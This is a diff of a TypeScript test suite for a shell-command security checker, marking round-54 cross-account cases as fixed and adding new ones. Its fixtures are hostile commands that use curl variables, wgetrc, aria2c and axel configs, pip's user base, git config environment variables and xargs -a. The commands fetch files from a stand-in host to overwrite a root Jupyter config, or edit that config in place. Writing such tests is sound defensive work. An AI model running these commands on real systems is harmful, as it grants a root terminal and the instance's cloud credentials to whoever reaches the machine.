@@ -523,11 +523,10 @@ const insecure: StackCase[] = [
     },
     // Python docs, site: PYTHONUSERBASE is the base of `pip install --user`; a wheel's data files go to the base
     // itself (sysconfig "data" path of the user scheme), so `.jupyter/jupyter_server_config.py` lands in /root/.jupyter.
-    // MISS: pip install --user installs into the user scheme rooted at PYTHONUSERBASE (python(1) PYTHONUSERBASE: "installation paths for python -m pip install --user"), whose data files go to the base itself (sysconfig posix_user scheme: data = {userbase}), so a wheel's data file .jupyter/jupyter_server_config.py lands in /root/.jupyter: the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); the pack's INSTALL_DESTINATIONS know --target/--prefix/--root only. Doc: docs.python.org/3/library/sysconfig.html#posix-user, docs.python.org/3/using/cmdline.html#envvar-PYTHONUSERBASE.
+    // Was a MISS (fixed in round 54): pip install --user installs into the user scheme rooted at PYTHONUSERBASE (python(1) PYTHONUSERBASE: "installation paths for python -m pip install --user"), whose data files go to the base itself (sysconfig posix_user scheme: data = {userbase}), so a wheel's data file .jupyter/jupyter_server_config.py lands in /root/.jupyter: the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); the pack's INSTALL_DESTINATIONS know --target/--prefix/--root only. Doc: docs.python.org/3/library/sysconfig.html#posix-user, docs.python.org/3/using/cmdline.html#envvar-PYTHONUSERBASE.
     {
         name: `cross-account: ${WRITTEN} \`export PYTHONUSERBASE=/root\`, then \`cd /srv && pip3 install --user --upgrade jupyter-site-config\``,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-pip-userbase/,
         edit: loopbackJupyter("rt54-pip-userbase", [
             "export PYTHONUSERBASE=/root",
@@ -535,44 +534,40 @@ const insecure: StackCase[] = [
         ]),
     },
     // curl(1) --variable: "%name" imports an environment variable; an option prefixed --expand- expands {{name}}.
-    // MISS: curl --variable %NAME imports an environment variable and an option prefixed --expand- expands {{NAME}} (curl(1) --variable, curl 8.3.0+; everything.curl.dev "Variables"), so --expand-output writes the download to /root/.jupyter/jupyter_server_config.py: the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); the pack reads -o/-O/--output-dir only and takes `{{OUT_FILE}}` as a name in /srv. Doc: curl.se/docs/manpage.html#--variable, everything.curl.dev/cmdline/variables/env.html.
+    // Was a MISS (fixed in round 54): curl --variable %NAME imports an environment variable and an option prefixed --expand- expands {{NAME}} (curl(1) --variable, curl 8.3.0+; everything.curl.dev "Variables"), so --expand-output writes the download to /root/.jupyter/jupyter_server_config.py: the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); the pack reads -o/-O/--output-dir only and takes `{{OUT_FILE}}` as a name in /srv. Doc: curl.se/docs/manpage.html#--variable, everything.curl.dev/cmdline/variables/env.html.
     {
         name: `cross-account: ${WRITTEN} \`export OUT_FILE=/root/.jupyter/jupyter_server_config.py\`, then \`cd /srv && curl --variable %OUT_FILE --expand-output '{{OUT_FILE}}' URL\``,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-curl-expand/,
         edit: loopbackJupyter("rt54-curl-expand", [
             "export OUT_FILE=/root/.jupyter/jupyter_server_config.py",
             "cd /srv && curl -fsSL --variable %OUT_FILE --expand-output '{{OUT_FILE}}' https://seed.example.com/jupyter_server_config.py",
         ]),
     },
-    // MISS: curl --variable name@FILE sets the variable from the file's contents (curl(1) --variable), so --expand-output writes wherever /opt/seed/dest.txt says (a file the script did not write): the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); the pack takes `{{dest}}` as a name in /srv. Doc: curl.se/docs/manpage.html#--variable.
+    // Was a MISS (fixed in round 54): curl --variable name@FILE sets the variable from the file's contents (curl(1) --variable), so --expand-output writes wherever /opt/seed/dest.txt says (a file the script did not write): the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); the pack takes `{{dest}}` as a name in /srv. Doc: curl.se/docs/manpage.html#--variable.
     {
         name: `cross-account: ${WRITTEN} \`cd /srv && curl --variable 'dest@/opt/seed/dest.txt' --expand-output '{{dest}}' URL\` (the output named by a file)`,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-curl-varfile/,
         edit: loopbackJupyter("rt54-curl-varfile", [
             "cd /srv && curl -fsSL --variable 'dest@/opt/seed/dest.txt' --expand-output '{{dest}}' https://seed.example.com/jupyter_server_config.py",
         ]),
     },
     // wget(1) -e/--execute: "Execute command as if it were a part of .wgetrc"; wgetrc output_document is -O.
-    // MISS: wget -e runs a wgetrc command "as if it were a part of .wgetrc" (wget manual, "Basic Startup Options"), and output_document is -O ("Wgetrc Commands"): the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); the pack treats -e's value as no path (COPIER_VALUES). Doc: gnu.org/software/wget/manual/wget.html (Basic Startup Options, Wgetrc Commands).
+    // Was a MISS (fixed in round 54): wget -e runs a wgetrc command "as if it were a part of .wgetrc" (wget manual, "Basic Startup Options"), and output_document is -O ("Wgetrc Commands"): the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); the pack treats -e's value as no path (COPIER_VALUES). Doc: gnu.org/software/wget/manual/wget.html (Basic Startup Options, Wgetrc Commands).
     {
         name: `cross-account: ${WRITTEN} \`cd /srv && wget -q -e output_document=/root/.jupyter/jupyter_server_config.py URL\``,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-wget-e/,
         edit: loopbackJupyter("rt54-wget-e", [
             "cd /srv && wget -q -e output_document=/root/.jupyter/jupyter_server_config.py https://seed.example.com/jupyter_server_config.py",
         ]),
     },
     // wget manual, "Startup File": WGETRC names the startup file, else /etc/wgetrc and ~/.wgetrc.
-    // MISS: wget reads the system startup file /etc/wgetrc (wget manual, "Startup File"), whose output_document is -O ("Wgetrc Commands"): the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); the pack reads no wgetrc, unlike pip.conf and curlrc (rootReads.ts configuredWords). Doc: gnu.org/software/wget/manual/wget.html#Startup-File.
+    // Was a MISS (fixed in round 54): wget reads the system startup file /etc/wgetrc (wget manual, "Startup File"), whose output_document is -O ("Wgetrc Commands"): the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); the pack reads no wgetrc, unlike pip.conf and curlrc (rootReads.ts configuredWords). Doc: gnu.org/software/wget/manual/wget.html#Startup-File.
     {
         name: `cross-account: ${WRITTEN} writes /etc/wgetrc (\`output_document = /root/.jupyter/jupyter_server_config.py\`), then \`cd /srv && wget URL\``,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-wgetrc/,
         edit: loopbackJupyter(
             "rt54-wgetrc",
@@ -580,11 +575,10 @@ const insecure: StackCase[] = [
             [["/etc/wgetrc", "output_document = /root/.jupyter/jupyter_server_config.py"]],
         ),
     },
-    // MISS: WGETRC names wget's startup file (wget manual, "Startup File"); dir_prefix is -P and timestamping -N (overwrites the existing file): the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); WGETRC is a LOADER_VARIABLES name, yet the export is not judged against wget's run. Doc: gnu.org/software/wget/manual/wget.html#Startup-File.
+    // Was a MISS (fixed in round 54): WGETRC names wget's startup file (wget manual, "Startup File"); dir_prefix is -P and timestamping -N (overwrites the existing file): the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); WGETRC is a LOADER_VARIABLES name, yet the export is not judged against wget's run. Doc: gnu.org/software/wget/manual/wget.html#Startup-File.
     {
         name: `cross-account: ${WRITTEN} \`export WGETRC=/etc/seed/wgetrc\` (written: \`dir_prefix = /root/.jupyter\`, \`timestamping = on\`), then \`cd /srv && wget URL\``,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-wgetrc-env/,
         edit: loopbackJupyter(
             "rt54-wgetrc-env",
@@ -593,11 +587,10 @@ const insecure: StackCase[] = [
         ),
     },
     // aria2c(1) --conf-path (default $HOME/.aria2/aria2.conf): `dir` is the directory to store the file.
-    // MISS: aria2c reads its options from --conf-path's file (aria2c(1) --conf-path; `dir` "The directory to store the downloaded file", allow-overwrite), so the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); the pack judges the unknown downloader by its working directory /srv only. Doc: aria2.github.io/manual/en/html/aria2c.html (--conf-path, --dir, --allow-overwrite).
+    // Was a MISS (fixed in round 54): aria2c reads its options from --conf-path's file (aria2c(1) --conf-path; `dir` "The directory to store the downloaded file", allow-overwrite), so the download replaces the loopback config (the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance)); the pack judges the unknown downloader by its working directory /srv only. Doc: aria2.github.io/manual/en/html/aria2c.html (--conf-path, --dir, --allow-overwrite).
     {
         name: `cross-account: ${WRITTEN} \`cd /srv && aria2c --conf-path=/etc/seed/aria2.conf URL\` (written: \`dir=/root/.jupyter\`, \`allow-overwrite=true\`)`,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-aria2-conf/,
         edit: loopbackJupyter(
             "rt54-aria2-conf",
@@ -615,11 +608,14 @@ const insecure: StackCase[] = [
         ]),
     },
     // git-config(1) ENVIRONMENT: GIT_CONFIG_COUNT, GIT_CONFIG_KEY_<n>, GIT_CONFIG_VALUE_<n> add configuration.
-    // MISS: GIT_CONFIG_COUNT/GIT_CONFIG_KEY_<n>/GIT_CONFIG_VALUE_<n> add configuration to every git run (git-config(1) ENVIRONMENT), here core.worktree=/root, so checkout -f writes the repository's files into /root: the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); git's environment is read for GIT_WORK_TREE only (round 53's core.worktree case is the written-config neighbour). Doc: git-scm.com/docs/git-config#ENVIRONMENT.
+    // Was a MISS (fixed in round 54): GIT_CONFIG_COUNT/GIT_CONFIG_KEY_<n>/GIT_CONFIG_VALUE_<n> add configuration to every git run (git-config(1) ENVIRONMENT), here core.worktree=/root, so checkout -f writes the repository's files into /root: the loopback config /root/.jupyter/jupyter_server_config.py is replaced by content the pack never read (a root Jupyter terminal and instance-role's credentials for whoever reaches the instance); git's environment is read for GIT_WORK_TREE only (round 53's core.worktree case is the written-config neighbour). Doc: git-scm.com/docs/git-config#ENVIRONMENT.
+    // Fixer's note (round 54): the environment is now read as `git -c` (rootReads.ts environmentOptions), refused as any git
+    // run naming /root is. Checked with git 2.39.5: core.worktree from -c, GIT_CONFIG_COUNT or GIT_CONFIG_PARAMETERS is
+    // ignored (setup.c reads it from the repository's own config file), so this checkout writes into /srv; the refusal
+    // stands fail-closed, as for the -c neighbour.
     {
         name: `cross-account: ${WRITTEN} \`export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.worktree GIT_CONFIG_VALUE_0=/root\`, then \`cd /srv && git --git-dir=D checkout -f\``,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-git-config-env/,
         edit: loopbackJupyter("rt54-git-config-env", [
             "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.worktree GIT_CONFIG_VALUE_0=/root",
@@ -627,11 +623,10 @@ const insecure: StackCase[] = [
         ]),
     },
     // xargs(1) -a/--arg-file: "Read items from file instead of standard input".
-    // MISS: xargs -a/--arg-file reads its items "from file instead of standard input" (GNU findutils, xargs(1)), so sed -i edits whatever /opt/seed/configs.list names (/root/.jupyter/jupyter_server_config.py: ip 0.0.0.0, the same gain as above); the neighbour of round 53's find -files0-from fix. Doc: gnu.org/software/findutils/manual/html_node/find_html/xargs-options.html.
+    // Was a MISS (fixed in round 54): xargs -a/--arg-file reads its items "from file instead of standard input" (GNU findutils, xargs(1)), so sed -i edits whatever /opt/seed/configs.list names (/root/.jupyter/jupyter_server_config.py: ip 0.0.0.0, the same gain as above); the neighbour of round 53's find -files0-from fix. Doc: gnu.org/software/findutils/manual/html_node/find_html/xargs-options.html.
     {
         name: `cross-account: ${WRITTEN} \`cd /srv && xargs -a LIST sed -i 's/localhost/0.0.0.0/'\` (the files from a list)`,
         stack: "cross-account",
-        skip: "MISS",
         refused: /rt54-xargs-a/,
         edit: loopbackJupyter("rt54-xargs-a", [
             "cd /srv && xargs -a /opt/seed/configs.list sed -i 's/localhost/0.0.0.0/'",
@@ -653,6 +648,92 @@ const insecure: StackCase[] = [
                     Condition: { StringEquals: { "aws:ResourceTag/team": "payments" } },
                 }),
             ]),
+    },
+    // Round 54 fixer's neighbours (downloaders, installers, git, xargs).
+    {
+        name: `cross-account: ${WRITTEN} writes LIST (\`/root/.jupyter/jupyter_server_config.py\`), then \`cd /srv && xargs -a LIST sed -i ...\``,
+        stack: "cross-account",
+        refused: /rt54-n-xargs-written/,
+        edit: loopbackJupyter(
+            "rt54-n-xargs-written",
+            ["cd /srv && xargs --arg-file=/etc/seed/configs.list sed -i 's/localhost/0.0.0.0/'"],
+            [["/etc/seed/configs.list", "/root/.jupyter/jupyter_server_config.py"]],
+        ),
+    },
+    // pip documentation, "Configuration": PIP_USER is --user; the user base defaults to ~/.local unless PYTHONUSERBASE.
+    {
+        name: `cross-account: ${WRITTEN} \`export PIP_USER=1 PYTHONUSERBASE=/root\`, then \`cd /srv && pip3 install jupyter-site-config\``,
+        stack: "cross-account",
+        refused: /rt54-n-pip-user-env/,
+        edit: loopbackJupyter("rt54-n-pip-user-env", [
+            "export PIP_USER=1 PYTHONUSERBASE=/root",
+            "cd /srv && pip3 install jupyter-site-config",
+        ]),
+    },
+    {
+        name: `cross-account: ${WRITTEN} \`cd /srv && curl --variable 'dest=/root/.jupyter' --expand-output-dir '{{dest}}' -O URL\``,
+        stack: "cross-account",
+        refused: /rt54-n-curl-expand-dir/,
+        edit: loopbackJupyter("rt54-n-curl-expand-dir", [
+            "cd /srv && curl -fsSL --variable 'dest=/root/.jupyter' --expand-output-dir '{{dest}}' -O https://seed.example.com/jupyter_server_config.py",
+        ]),
+    },
+    {
+        name: `cross-account: ${WRITTEN} \`cd /srv && wget -qe 'dir_prefix=/root/.jupyter' -e timestamping=on URL\``,
+        stack: "cross-account",
+        refused: /rt54-n-wget-e-bundle/,
+        edit: loopbackJupyter("rt54-n-wget-e-bundle", [
+            "cd /srv && wget -qe 'dir_prefix=/root/.jupyter' -e timestamping=on https://seed.example.com/jupyter_server_config.py",
+        ]),
+    },
+    {
+        name: `cross-account: ${WRITTEN} writes ~/.wgetrc (\`Output-Document = ...\`), then \`cd /srv && wget URL\``,
+        stack: "cross-account",
+        refused: /rt54-n-home-wgetrc/,
+        edit: loopbackJupyter(
+            "rt54-n-home-wgetrc",
+            ["cd /srv && wget -q https://seed.example.com/jupyter_server_config.py"],
+            [["/root/.wgetrc", "Output-Document = /root/.jupyter/jupyter_server_config.py"]],
+        ),
+    },
+    {
+        name: `cross-account: ${WRITTEN} \`export WGETRC=/opt/seed/wgetrc\` (not written by the script), then \`cd /srv && wget URL\``,
+        stack: "cross-account",
+        refused: /rt54-n-wgetrc-unread/,
+        edit: loopbackJupyter("rt54-n-wgetrc-unread", [
+            "export WGETRC=/opt/seed/wgetrc",
+            "cd /srv && wget -q https://seed.example.com/notes.tar",
+        ]),
+    },
+    {
+        name: `cross-account: ${WRITTEN} writes ~/.aria2/aria2.conf (\`dir=/root/.jupyter\`), then \`cd /srv && aria2c URL\``,
+        stack: "cross-account",
+        refused: /rt54-n-aria2-default/,
+        edit: loopbackJupyter(
+            "rt54-n-aria2-default",
+            ["cd /srv && aria2c https://seed.example.com/jupyter_server_config.py"],
+            [["/root/.aria2/aria2.conf", "dir=/root/.jupyter\nallow-overwrite=true"]],
+        ),
+    },
+    // A downloader whose configuration the pack does not read (axel(1) FILES: ~/.axelrc): fail closed.
+    {
+        name: `cross-account: ${WRITTEN} writes ~/.axelrc, then \`cd /srv && axel URL\``,
+        stack: "cross-account",
+        refused: /rt54-n-axelrc/,
+        edit: loopbackJupyter(
+            "rt54-n-axelrc",
+            ["cd /srv && axel -q https://seed.example.com/jupyter_server_config.py"],
+            [["/root/.axelrc", "default_filename = /root/.jupyter/jupyter_server_config.py"]],
+        ),
+    },
+    {
+        name: `cross-account: ${WRITTEN} \`export GIT_CONFIG_PARAMETERS="'core.worktree'='/root'"\`, then \`cd /srv && git --git-dir=D checkout -f\``,
+        stack: "cross-account",
+        refused: /rt54-n-git-config-parameters/,
+        edit: loopbackJupyter("rt54-n-git-config-parameters", [
+            "export GIT_CONFIG_PARAMETERS=\"'core.worktree'='/root'\"",
+            "cd /srv && git --git-dir=/opt/seed/dotfiles.git checkout -f",
+        ]),
     },
 ];
 
@@ -884,21 +965,19 @@ const secure: StackCase[] = [
         ]),
     },
     // pip documentation, "pip download": -d/--dest "Download packages into <dir>".
-    // MISS: (secure refused) pip download -d/--dest "Download packages into <dir>" (pip docs, "pip download"), here /srv/wheels; the pack counts pip download as saving into its working directory /root whatever -d names, and marks the loopback config unread. Doc: pip.pypa.io/en/stable/cli/pip_download/.
+    // Was a MISS (fixed in round 54): (secure refused) pip download -d/--dest "Download packages into <dir>" (pip docs, "pip download"), here /srv/wheels; the pack counts pip download as saving into its working directory /root whatever -d names, and marks the loopback config unread. Doc: pip.pypa.io/en/stable/cli/pip_download/.
     {
         name: `cross-account: ${KEPT} \`cd /root && pip3 download --no-deps -d /srv/wheels jupyterlab\``,
         stack: "cross-account",
-        skip: "MISS",
         edit: loopbackJupyter("rt54-s-pip-download", [
             "mkdir -p /srv/wheels && cd /root && pip3 download --no-deps -d /srv/wheels jupyterlab",
         ]),
     },
     // pip documentation, "pip config": list prints the configuration.
-    // MISS: (secure refused) pip config list prints "the active configuration" (pip docs, "pip config") and writes no file; pip config is not among keepsWorkingDirectory's pip commands, so /root is marked changed and the loopback config unread. Doc: pip.pypa.io/en/stable/cli/pip_config/.
+    // Was a MISS (fixed in round 54): (secure refused) pip config list prints "the active configuration" (pip docs, "pip config") and writes no file; pip config is not among keepsWorkingDirectory's pip commands, so /root is marked changed and the loopback config unread. Doc: pip.pypa.io/en/stable/cli/pip_config/.
     {
         name: `cross-account: ${KEPT} \`cd /root && pip3 config list > /var/log/pip-config.txt\``,
         stack: "cross-account",
-        skip: "MISS",
         edit: loopbackJupyter("rt54-s-pip-config-list", ["cd /root && pip3 config list > /var/log/pip-config.txt"]),
     },
     {
@@ -1012,6 +1091,67 @@ const secure: StackCase[] = [
         edit: loopbackJupyter("rt54-s-git-c-worktree", [
             "mkdir -p /srv/notes && cd /srv && git -c core.worktree=/srv/notes --git-dir=/opt/seed/notes.git checkout -f",
         ]),
+    },
+    // Round 54 fixer's neighbours (downloaders, installers, git, xargs).
+    {
+        name: `cross-account: ${KEPT} \`export PYTHONUSERBASE=/opt/pyuser\`, then \`cd /srv && pip3 install --user jupyterlab\``,
+        stack: "cross-account",
+        edit: loopbackJupyter("rt54-s-pip-userbase", [
+            "export PYTHONUSERBASE=/opt/pyuser",
+            "cd /srv && pip3 install --user --upgrade jupyterlab",
+        ]),
+    },
+    {
+        name: `cross-account: ${KEPT} \`cd /root && pip3 wheel -w /srv/wheels jupyterlab && pip3 config get global.index-url\``,
+        stack: "cross-account",
+        edit: loopbackJupyter("rt54-s-pip-wheel", [
+            "mkdir -p /srv/wheels && cd /root && pip3 wheel --no-deps -w /srv/wheels jupyterlab && pip3 config get global.index-url > /var/log/pip-index.txt",
+        ]),
+    },
+    {
+        name: `cross-account: ${KEPT} \`export OUT_FILE=/srv/notes/README.md\`, then \`cd /root && curl --variable %OUT_FILE --expand-output '{{OUT_FILE}}' URL\``,
+        stack: "cross-account",
+        edit: loopbackJupyter("rt54-s-curl-expand-output", [
+            "export OUT_FILE=/srv/notes/README.md",
+            "mkdir -p /srv/notes && cd /root && curl -fsSL --variable %OUT_FILE --expand-output '{{OUT_FILE}}' https://seed.example.com/README.md",
+        ]),
+    },
+    {
+        name: `cross-account: ${KEPT} writes /etc/wgetrc (\`dir_prefix = /srv/seed\`), then \`cd /root && wget -e timestamping=on URL\``,
+        stack: "cross-account",
+        edit: loopbackJupyter(
+            "rt54-s-wgetrc",
+            ["mkdir -p /srv/seed && cd /root && wget -q -e timestamping=on https://seed.example.com/notes.tar"],
+            [["/etc/wgetrc", "dir_prefix = /srv/seed\ntries = 5"]],
+        ),
+    },
+    {
+        name: `cross-account: ${KEPT} \`cd /root && aria2c --conf-path=CONF URL\` (written: \`dir=/srv/seed\`)`,
+        stack: "cross-account",
+        edit: loopbackJupyter(
+            "rt54-s-aria2-conf",
+            [
+                "mkdir -p /srv/seed && cd /root && aria2c --conf-path=/etc/seed/aria2.conf https://seed.example.com/notes.tar",
+            ],
+            [["/etc/seed/aria2.conf", "dir=/srv/seed\nallow-overwrite=true"]],
+        ),
+    },
+    {
+        name: `cross-account: ${KEPT} \`export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'\`, then \`cd /srv && git clone URL notes\``,
+        stack: "cross-account",
+        edit: loopbackJupyter("rt54-s-git-config-env", [
+            "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'",
+            "cd /srv && git clone https://seed.example.com/notes.git notes",
+        ]),
+    },
+    {
+        name: `cross-account: ${KEPT} writes LIST (\`/srv/notes/a.conf\`), then \`xargs -a LIST sed -i ...\``,
+        stack: "cross-account",
+        edit: loopbackJupyter(
+            "rt54-s-xargs-written",
+            ["cd /srv && xargs -a /etc/seed/configs.list sed -i 's/localhost/0.0.0.0/'"],
+            [["/etc/seed/configs.list", "/srv/notes/a.conf\n/srv/notes/b.conf"]],
+        ),
     },
 ];
 
